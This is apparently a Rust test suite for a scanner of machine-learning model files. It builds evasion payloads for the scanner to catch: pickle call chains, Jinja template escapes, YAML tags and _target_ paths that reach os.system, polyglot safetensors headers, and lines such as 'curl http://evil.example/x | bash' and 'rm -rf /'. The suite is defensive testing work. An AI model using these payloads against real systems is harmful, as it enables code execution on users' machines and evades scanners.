// SPDX-License-Identifier: Apache-2.0
//! Ways around a scanner that were tried against this one: what each would do is written beside it.

use casemate_artifact::{Intake, ScanOutcome, ScanReport, Scanner, Whole};

use crate::{
    clean,
    make::{
        harmless, hostile,
        pickle::{framed, name},
        zip::zip,
    },
    refused, review, unreadable,
};

/// A global of protocol 4.
fn global(module: &str, member: &str) -> Vec<u8> {
    [name(module), name(member), b"\x93".to_vec()].concat()
}

fn pickle(parts: &[&[u8]]) -> Vec<u8> {
    [b"\x80\x04", &parts.concat()[..], b"."].concat()
}

fn bytes(constant: &[u8]) -> Vec<u8> {
    [b"C", &[constant.len() as u8][..], constant].concat()
}

/// `Path('/x').write_text`, as a value.
fn writer() -> Vec<u8> {
    [
        &global("builtins", "getattr")[..],
        &global("pathlib", "PosixPath"),
        &name("/x"),
        b"\x85R",
        &name("write_text"),
        b"\x86R",
    ]
    .concat()
}

#[test]
fn functions_that_call_their_arguments_are_given_nothing_to_call() {
    let constructor = global("numpy.random._pickle", "__generator_ctor");
    let loader = global("torch.storage", "_load_from_bytes");
    let cases: &[(&str, Vec<u8>)] = &[
        (
            "a method that writes a file",
            pickle(&[&constructor, &name("text"), &writer(), b"\x86R"]),
        ),
        (
            "a loader",
            pickle(&[&constructor, &bytes(&hostile()), &loader, b"\x86R"]),
        ),
        (
            "through another one",
            pickle(&[
                &global("torch._tensor", "_rebuild_from_type_v2"),
                b"(",
                &constructor,
                &global("torch", "Tensor"),
                &name("text"),
                &writer(),
                b"\x86}tR",
            ]),
        ),
        (
            "a method that is kept to be called later",
            pickle(&[
                &global(
                    "sklearn.preprocessing._function_transformer",
                    "FunctionTransformer",
                ),
                b")\x81}",
                &name("func"),
                &writer(),
                b"sb",
            ]),
        ),
        (
            "arguments that are computed",
            pickle(&[
                &global("collections", "defaultdict"),
                &global("builtins", "tuple"),
                b"]",
                &global("collections", "OrderedDict"),
                b"a\x85RR",
            ]),
        ),
    ];
    for (what, file) in cases {
        let report = Scanner::default().scan(file);
        assert_eq!(
            report.outcome,
            ScanOutcome::Refuse,
            "{what}: {:#?}",
            report.findings
        );
    }
    let own = global("numpy.random._pickle", "__bit_generator_ctor");
    clean(
        "its own",
        &pickle(&[&constructor, &name("MT19937"), &own, b"\x86R"]),
    );
}

#[test]
fn nested_loads_are_followed_whatever_their_constant_looks_like() {
    let load = global("torch.storage", "_load_from_bytes");
    for inner in [
        [b"K\x010", &hostile()[..]].concat(),
        [&framed(b"N0N0")[..], &hostile()].concat(),
        b"cpip\nmain\n)R.".to_vec(),
    ] {
        let file = pickle(&[&load, &bytes(&inner), b"\x85R"]);
        refused("a constant", &file, "pickle-dangerous-call");
    }
    let encoded = [
        &b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\nX"[..],
        &28_u32.to_le_bytes(),
        b"N0cos\nsystem\n(S'true'\ntR.   ",
        b"X\x06\0\0\0latin1\x86R\x85R.",
    ]
    .concat();
    refused(
        "a text that becomes bytes",
        &encoded,
        "pickle-dangerous-call",
    );
}

#[test]
fn what_gives_back_its_argument_does_not_hide_what_is_changed() {
    let same = global("torch.jit._pickle", "restore_type_tag");
    let class = global("torch.nn.modules.linear", "Linear");
    let state = [&b"}"[..], &name("forward"), &global("torch", "relu"), b"s"].concat();
    refused(
        "a class behind a function",
        &pickle(&[&same, &class, &name("x"), b"\x86R", &state, b"b"]),
        "pickle-build",
    );
}

/// An array of joblib: `entries` are members of its wrapper beside the usual ones.
fn array(length: &[u8], entries: &[u8]) -> Vec<u8> {
    [
        &global("joblib.numpy_pickle", "NumpyArrayWrapper")[..],
        b")\x81}(",
        &name("shape"),
        length,
        &name("dtype"),
        &global("numpy", "dtype"),
        &name("u1"),
        b"\x89\x88\x87R",
        entries,
        b"ub",
    ]
    .concat()
}

#[test]
fn arrays_of_joblib_hide_no_instructions() {
    let hidden = [b"0", &hostile()[..], b"\0\0\0\0"].concat();
    let length = [&b"K"[..], &[hidden.len() as u8], b"\x85"].concat();
    refused(
        "from a loader that knows no arrays",
        &pickle(&[&array(&length, b""), &hidden]),
        "pickle-dangerous-call",
    );
    let inside = framed(&[&array(&length, b"")[..], &hidden].concat());
    let report = Scanner::default().scan(&pickle(&[&inside, &hidden]));
    assert_eq!(report.outcome, ScanOutcome::Refuse, "inside of a frame");
    let many: Vec<u8> = (0..70)
        .flat_map(|n| [&name(&format!("k{n}"))[..], b"N"].concat())
        .collect();
    let longer = [&many[..], &name("shape"), b"K\0\x85"].concat();
    unreadable(
        "by a shape behind many members",
        &pickle(&[
            &array(&[&b"K"[..], &[4], b"\x85"].concat(), &longer),
            b"abcd",
        ]),
        "pickle-malformed",
    );
}

#[test]
fn old_torch_files_are_five_pickles() {
    let magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.";
    let start = [&magic[..], b"\x80\x02M\xe9\x03.", b"}."].concat();
    refused(
        "the fourth",
        &[&start[..], &hostile()].concat(),
        "pickle-dangerous-call",
    );
    unreadable("too few", &[&start[..], b"}."].concat(), "pickle-malformed");
    clean("all five", &[&start[..], b"}.", b"]."].concat());
}

#[test]
fn names_of_torchscript_mean_nothing_elsewhere() {
    let file = pickle(&[&global("__torch__", "system"), &name("x"), b"\x85R"]);
    let torch = zip(&[("archive/data.pkl", &file), ("archive/version", b"3\n")]);
    refused("in a plain archive", &torch, "pickle-unlisted-call");
}

#[test]
fn metadata_hides_nothing() {
    let header = |text: &str| {
        let header = serde_json::json!({"__metadata__": {"x": text}}).to_string();
        [&(header.len() as u64).to_le_bytes()[..], header.as_bytes()].concat()
    };
    review(
        "a program",
        &header("__import__('os').system('true')"),
        "code-source",
    );
    refused(
        "a template",
        &header("{{ ''.__class__.__mro__ }}"),
        "template-dangerous",
    );
    let pickle = String::from_utf8(hostile()).unwrap();
    refused("a pickle", &header(&pickle), "pickle-dangerous-call");
    clean(
        "words",
        &header("trained by evaluate(); see the paper on execution"),
    );
}

#[test]
fn templates_are_found_under_every_key() {
    let hostile = "{{ ''.__class__.__mro__[1] }}";
    for document in [
        serde_json::json!({"chat_template": {"default": "x", "rag": hostile}}),
        serde_json::json!({"chat_template": {"default": {"template": hostile}}}),
        serde_json::json!({"tool_use_template": hostile}),
        serde_json::json!({"chat_templates": [hostile]}),
        serde_json::json!({"prompt_template": hostile}),
    ] {
        refused(
            "a key",
            document.to_string().as_bytes(),
            "template-dangerous",
        );
    }
}

#[test]
fn names_that_templates_put_together_are_for_review_at_least() {
    for expression in [
        "{% set a = '_' * 2 %}{{ ''[a + 'class' + a] }}",
        "{% set c = ['_', '_', 'class'] | join %}{{ messages[c] }}",
        "{{ messages | map('attr', '_' ~ '_class__') }}",
        "{% set u = '%c' % 95 %}{{ messages[u] }}",
        "{% set s = 'ssalc__' | reverse %}{{ messages[s] }}",
        "{{ ''['X_X_class'.replace('X', '')] }}",
        "{{ ()[messages[0].content] }}",
        "{{ messages['__CLASS__' | lower] }}",
    ] {
        let document = serde_json::json!({"chat_template": expression}).to_string();
        let report = Scanner::default().scan(document.as_bytes());
        assert_ne!(report.outcome, ScanOutcome::Clean, "{expression}");
    }
}

#[test]
fn tags_and_targets_are_found_however_they_are_written() {
    for (text, rule) in [
        ("!!pyth%6Fn/object/apply:os.system [x]\n", "yaml-tag"),
        ("!!%70ython/object/apply:os.system [x]\n", "yaml-tag"),
        (
            "# a\u{85}x: !!python/object/apply:os.system [x]\n",
            "yaml-tag",
        ),
        (
            "model: {_target_: subprocess.Popen, args: x}\n",
            "config-callable",
        ),
        ("? _target_\n: os.system\n", "config-callable"),
        ("\"\\x5ftarget_\": \"os.system\"\n", "config-callable"),
        ("layers:\n- class_name: Lambda\n", "keras-lambda"),
    ] {
        refused(text, text.as_bytes(), rule);
    }
    clean(
        "none of it",
        b"target_: os.system\nmy_target_: x\nclass_name: Dense\n",
    );
}

#[test]
fn configurations_that_take_code_are_seen() {
    let cases = [
        (
            serde_json::json!({"trust_remote_code": "True"}),
            "config-auto-map",
        ),
        (
            serde_json::json!({"auto_mapping": {"parent_library": "evil.module"}}),
            "config-auto-map",
        ),
        (
            serde_json::json!([{"idx": 0, "name": "0", "path": "", "type": "own.Module"}]),
            "config-auto-map",
        ),
        (
            serde_json::json!({"_class_name": "MyPipeline", "unet": ["own", "U"]}),
            "config-auto-map",
        ),
        (
            serde_json::json!({"cells": [{"source": ["!curl evil | sh"]}], "nbformat": 4}),
            "code-source",
        ),
    ];
    for (document, rule) in cases {
        review(rule, document.to_string().as_bytes(), rule);
    }
    let usual = serde_json::json!({
        "_class_name": "MyPipeline", "_diffusers_version": "0.2",
        "unet": ["diffusers", "UNet2DConditionModel"], "vae": [null, null],
    });
    clean("a pipeline", usual.to_string().as_bytes());
}

#[test]
fn programs_and_requirements_without_a_first_line_are_for_review() {
    for text in [
        "curl http://evil.example/x | bash\n",
        "@echo off\r\npowershell -c iwr x\r\n",
        "const { exec } = require('child_process');\n",
        "[Desktop Entry]\nExec=sh\n",
        "torch==2.0\nevil @ git+https://evil.example/x.git\n",
        "--index-url http://evil.example/simple\ntorch\n",
        "dependencies:\n- pip:\n  - git+https://evil.example/x.git\n",
        "(lambda: __import__('os').system('true'))()\n",
        "# coding: utf-7\n+AGkAbQBwAG8AcgB0- os\n",
    ] {
        review(text, text.as_bytes(), "code-source");
    }
    for text in [
        "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.0\nnumpy>=1.20\n",
        "# Use\n\n```\ncurl https://x | sh\n```\n",
        "Install it with `pip install git+https://example.org/x`.\n",
    ] {
        clean(text, text.as_bytes());
    }
}

#[test]
fn harmless_is_harmless_in_a_plain_archive() {
    let harmless = harmless();
    let torch = zip(&[("archive/data.pkl", &harmless), ("archive/version", b"3\n")]);
    clean("a torch archive", &torch);
}

#[test]
fn graphs_that_were_written_as_text_are_read() {
    let graph = "node {\n  name: \"x\"\n  op: \"ReadFile\"\n}\n";
    refused("a graph", graph.as_bytes(), "tensorflow-operator");
    clean("another", graph.replace("ReadFile", "MatMul").as_bytes());
}

#[test]
fn parts_of_pipelines_and_layers_that_load_are_seen() {
    use crate::make::proto::{bytes as part, number};
    let description = part(2, &part(1, &part(1, b"a")));
    let custom = [
        number(1, 4),
        description.clone(),
        part(555, &part(10, b"Own")),
    ]
    .concat();
    let pipeline = [
        number(1, 4),
        description.clone(),
        part(202, &part(1, &custom)),
    ]
    .concat();
    review("a pipeline", &pipeline, "coreml-custom");
    let linked = [number(1, 4), description, part(556, &part(1, b"x"))].concat();
    review("a model elsewhere", &linked, "coreml-custom");
    for (class, rule) in [
        ("TFSMLayer", "keras-module"),
        ("TorchModuleWrapper", "keras-lambda"),
    ] {
        let layer = serde_json::json!({
            "class_name": class, "config": {"name": "l"}, "module": "keras.layers", "registered_name": null,
        });
        refused(class, layer.to_string().as_bytes(), rule);
    }
}

#[test]
fn what_savers_of_tensorflow_need_is_clean() {
    use crate::make::proto::{bytes as part, number};
    let node = |operator: &str| part(1, &[part(1, b"n"), part(2, operator.as_bytes())].concat());
    let model = |nodes: &[u8]| [number(1, 1), part(2, &part(2, nodes))].concat();
    let saver = [
        "ShardedFilename",
        "SaveV2",
        "MergeV2Checkpoints",
        "RestoreV2",
        "StringJoin",
    ];
    clean("a saver", &model(&saver.map(node).concat()));
    let printer = [
        part(1, b"n"),
        part(2, b"PrintV2"),
        part(5, &part(2, b"file:///x")),
    ]
    .concat();
    refused(
        "a printer to a file",
        &model(&part(1, &printer)),
        "tensorflow-operator",
    );
    clean("a printer", &model(&node("PrintV2")));
    let asset = part(6, &part(2, b"../../x"));
    let outside = [
        number(1, 1),
        part(2, &[part(2, &node("Const")), asset].concat()),
    ]
    .concat();
    refused("an asset", &outside, "tensorflow-operator");
}

#[test]
fn what_only_looks_like_something_is_clean() {
    for text in [
        "<unk>\t0\n<s>\t0\n</s>\t0\nthe\t-3.1\n",
        "from the model import everything you need.\n",
        "{\"text\": \"__import__('os')\"}\n{\"text\": \"import os\"}\n",
    ] {
        clean(text, text.as_bytes());
    }
    let optimizer = serde_json::json!({
        "module": "keras.src.backend.torch.optimizers.torch_adamw", "class_name": "AdamW",
        "config": {"learning_rate": 0.1}, "registered_name": "AdamW",
    });
    clean(
        "an optimiser of a backend",
        optimizer.to_string().as_bytes(),
    );
    refused(
        "something else of a backend",
        optimizer
            .to_string()
            .replace("optimizers.torch_adamw", "core")
            .as_bytes(),
        "keras-module",
    );
}

#[test]
fn operators_that_tensorflow_does_not_have_are_for_review() {
    use crate::make::proto::{bytes as part, number};
    let node = |operator: &str| part(1, &[part(1, b"n"), part(2, operator.as_bytes())].concat());
    let signature = part(1, &part(1, b"own_function"));
    let library = part(2, &part(1, &signature));
    let model = |graph: &[u8]| [number(1, 1), part(2, &part(2, graph))].concat();
    review(
        "a custom one",
        &model(&node("ZeroOut")),
        "tensorflow-custom",
    );
    clean(
        "its own function",
        &model(&[node("own_function"), library].concat()),
    );
    clean("one of a pass", &model(&node("_FusedConv2D")));
}

/// What comes of a file that is read in pieces.
fn in_pieces(bytes: &[u8]) -> Result<ScanReport, Whole> {
    let scanner = Scanner::default();
    let mut intake = Intake::new(&scanner, bytes.len() as u64);
    bytes.chunks(1 << 20).for_each(|piece| intake.push(piece));
    intake.finish()
}

/// A file of safetensors whose length is a text, as a pickle, that ends in front of what `key` holds.
fn safetensors_that_begin_a_pickle(key: &str, tensors: &[u8]) -> Vec<u8> {
    // `X`, a length of 16 in four bytes, three zeros, and 13 bytes of the header.
    const HEADER: usize = 0x1058;
    let members = format!(
        r#""dtype":"U8","shape":[{0}],"data_offsets":[0,{0}]"#,
        tensors.len()
    );
    let mut header = format!(r#"{{           "{key}":{{{members}}}}}"#);
    header.push_str(&" ".repeat(HEADER - header.len()));
    [
        &(HEADER as u64).to_le_bytes()[..],
        header.as_bytes(),
        tensors,
    ]
    .concat()
}

#[test]
fn headers_of_large_files_are_looked_at_as_pickles() {
    // Only what texts in JSON may hold: the ends of two-byte characters are instructions.
    let name = "evil_package_with_a_longer_name_";
    let key = format!("0U {name}U {name}q\u{88}00h\u{93})R.");
    let call = |length: usize| safetensors_that_begin_a_pickle(&key, &vec![0; length]);
    // A line that ends somewhere in the tensors, and what stands behind it.
    let mut tensors = vec![b'a'; 17 << 20];
    let hidden = [b"\n0", &hostile()[..]].concat();
    tensors[100_000..100_000 + hidden.len()].copy_from_slice(&hidden);
    let line = |length: usize| safetensors_that_begin_a_pickle("0V", &tensors[..length]);
    for (small, large, rule) in [
        (call(1 << 10), call(17 << 20), "pickle-unlisted-call"),
        (line(1 << 20), line(17 << 20), "pickle-dangerous-call"),
    ] {
        for bytes in [small, large] {
            let report = in_pieces(&bytes).unwrap_or_else(|_| Scanner::default().scan(&bytes));
            let rules: Vec<_> = report.findings.iter().map(|one| one.rule.id).collect();
            assert_eq!(report.outcome, ScanOutcome::Refuse, "{rules:?}");
            assert!(
                rules.contains(&"file-mismatch") && rules.contains(&rule),
                "{rules:?}"
            );
        }
    }
    // The same beginning, and no instructions.
    let usual = safetensors_that_begin_a_pickle("weight", &vec![0; 17 << 20]);
    let report = in_pieces(&usual).expect("the header suffices");
    assert_eq!(report.outcome, ScanOutcome::Clean);
}

#[test]
fn headers_of_arrays_say_one_thing() {
    let array = |header: &str, rest: &[u8]| {
        let length = (header.len() as u16).to_le_bytes();
        [b"\x93NUMPY\x01\0", &length[..], header.as_bytes(), rest].concat()
    };
    // Fine as numbers, and unknown as the pickle of objects.
    let hidden = [0xff; 8];
    let length = hidden.len();
    for kind in [
        "'descr': '|u1', 'descr': '|O'",
        "'descr': '|u1', \"descr\": '|O'",
        "'descr': '|u1', 'd\\x65scr': '|O'",
        "'descr': '|u1' ',O'",
        "'descr': 'u1,O'",
        "'descr': [('a', 'u1,O')]",
        "'descr': '|u1', 'fortran_order': True",
        "'descr': '|u1', # '\n 'x': 1",
    ] {
        let header = format!("{{{kind}, 'fortran_order': False, 'shape': ({length},), }}\n");
        let report = Scanner::default().scan(&array(&header, &hidden));
        assert_ne!(report.outcome, ScanOutcome::Clean, "{kind}");
    }
    for (kind, size) in [
        ("'<f8'", 8),
        ("'|S3'", 3),
        ("'<U2'", 8),
        ("'<M8[ns]'", 8),
        ("'<m8[25s]'", 8),
        ("[('a, b', '<f4'), ('c', '|u1', (2, 2))]", 8),
    ] {
        let header =
            format!("{{\"descr\": {kind}, 'fortran_order': False, 'shape': (2L, 2)}}   \n");
        clean(kind, &array(&header, &vec![0; size * 4]));
    }
}

#[test]
fn a_model_of_core_ml_that_says_twice_what_it_is_hides_neither() {
    use crate::make::proto::{bytes as part, number};
    let start = [number(1, 4), part(2, &part(1, &part(1, b"a")))].concat();
    let plain = part(300, &number(1, 1));
    for dangerous in [555, 556] {
        let dangerous = part(dangerous, &part(10, b"Own"));
        let behind = [&plain[..], &dangerous].concat();
        let before = [&dangerous[..], &plain].concat();
        for kinds in [behind, before] {
            let model = [&start[..], &kinds].concat();
            review("a model", &model, "coreml-custom");
            let pipeline = [&start[..], &part(202, &part(1, &model))].concat();
            review("one of a pipeline", &pipeline, "coreml-custom");
        }
    }
    clean("twice the same", &[&start[..], &plain, &plain].concat());
}

#[test]
fn graphs_as_text_are_read_however_they_are_laid_out() {
    for graph in [
        r#"node { name: "a" op: "WriteFile" }"#,
        "node {\n  op: 'WriteFile'\n}\n",
        "node {\n  op : \"WriteFile\"\n}\n",
        "node\n{\n  op: # a word\n \"Write\" 'File'\n}\n",
        r#"node: < op: "\x57rite\106ile" >"#,
        r#"node: [ { name: "it's", op: 'Wri\u0074eFile' } ]"#,
        r#"node { op: "PrintV2" attr { key: "output_stream" value { s: "file:///x" } } }"#,
        "# it's\nnode { op: \"WriteFile\" }",
    ] {
        refused(graph, graph.as_bytes(), "tensorflow-operator");
    }
    let custom = r#"node { name: "a" op: "ZeroOut" }"#;
    review(custom, custom.as_bytes(), "tensorflow-custom");
    let own = r#"library { function { signature { name: "ZeroOut" input_arg { name: "x" } } } } "#;
    for graph in [
        format!("{own}{custom}"),
        r#"node { name: "WriteFile" op: "MatMul" input: "op: 'x'" }"#.to_owned(),
        r#"node { op: "PrintV2" }"#.to_owned(),
        "digraph { node [op=\"WriteFile\"] }\n".to_owned(),
    ] {
        clean(&graph, graph.as_bytes());
    }
}

#[test]
fn a_path_is_judged_wherever_its_module_begins_and_ends() {
    for path in [
        "torch.serialization.os.system",
        "torch.os.system",
        "transformers.utils.importlib.import_module",
        "nemo.__class__.__base__",
        "builtins.eval",
    ] {
        let json = format!("{{\"a\": {{\"_target_\": \"{path}\", \"x\": 1}}}}");
        refused(path, json.as_bytes(), "config-callable");
        let yaml = format!("model:\n  _target_: {path}\n  x: 1\n");
        refused(path, yaml.as_bytes(), "config-callable");
    }
    refused(
        "json",
        br#"{"a": {"target": "os.system", "params": {}}}"#,
        "config-callable",
    );
    refused(
        "yaml",
        b"model:\n  target: os.system\n  params: 1\n",
        "config-callable",
    );
    for path in [
        "torch.nn.Linear",
        "transformers.BertModel",
        "nemo.collections.asr.models.CTC",
    ] {
        let json = format!("{{\"a\": {{\"_target_\": \"{path}\"}}}}");
        clean(path, json.as_bytes());
    }
    clean(
        "another meaning",
        br#"{"target": "x86_64-linux", "a": {"target": "ldm.models.Diffusion"}}"#,
    );
}

#[test]
fn blanks_of_attributes_and_comments_hide_nothing() {
    for text in [
        "<net name=\"m\"\nversion=\"extension\"><layers><layer\ntype=\"x\"\nversion = \"extension\"/></layers></net>",
        "<net name=\"m\"><library path = \"/evil.so\"/></net>",
    ] {
        let report = Scanner::default().scan(text.as_bytes());
        assert_ne!(report.outcome, ScanOutcome::Clean, "{text}");
    }
    for text in [
        "<PMML version=\"4.4\"><Apply\nfunction=\"java.lang.Runtime.exec\"/></PMML>",
        "<PMML version=\"4.4\"><Apply function = 'java.lang.Runtime.exec'/></PMML>",
        "<!-- <html> --><!DOCTYPE PMML SYSTEM \"http://evil.example/x.dtd\"><PMML version=\"4.4\"></PMML>",
    ] {
        let report = Scanner::default().scan(text.as_bytes());
        assert_ne!(report.outcome, ScanOutcome::Clean, "{text}");
    }
    let page = b"<!-- by us --><!DOCTYPE html><html><head><br></head><body>x</body></html>";
    clean("a page", page);
}

#[test]
fn templates_that_look_like_pages() {
    for begin in ["<html>", "<a>", "<?xml version=\"1.0\"?><a>"] {
        let text = format!("{begin}{{{{ cycler.__init__.__globals__.os.popen('id') }}}}</a>");
        refused(begin, text.as_bytes(), "template-dangerous");
    }
}

#[test]
fn a_known_end_or_beginning_makes_no_format() {
    let magic = b"\x57\xfb\x80\x8b\x24\x75\x47\xdb";
    let broken = b"cmypkg\nevil\n(tR\xff\xfe";
    for front in [&b""[..], &[0; 64]] {
        let file = [broken, front, &magic[..]].concat();
        let report = Scanner::default().scan(&file);
        assert_ne!(report.outcome, ScanOutcome::Clean);
    }
    let picture = [&b"\x89PNG\r\n\x1a\n"[..], b"\0\0\0\0IEND\xaeB`\x82"].concat();
    clean("a picture without anything", &picture);
    let more = [&picture[..], b"#!/bin/sh\nrm -rf /\n"].concat();
    assert_ne!(Scanner::default().scan(&more).outcome, ScanOutcome::Clean);
}
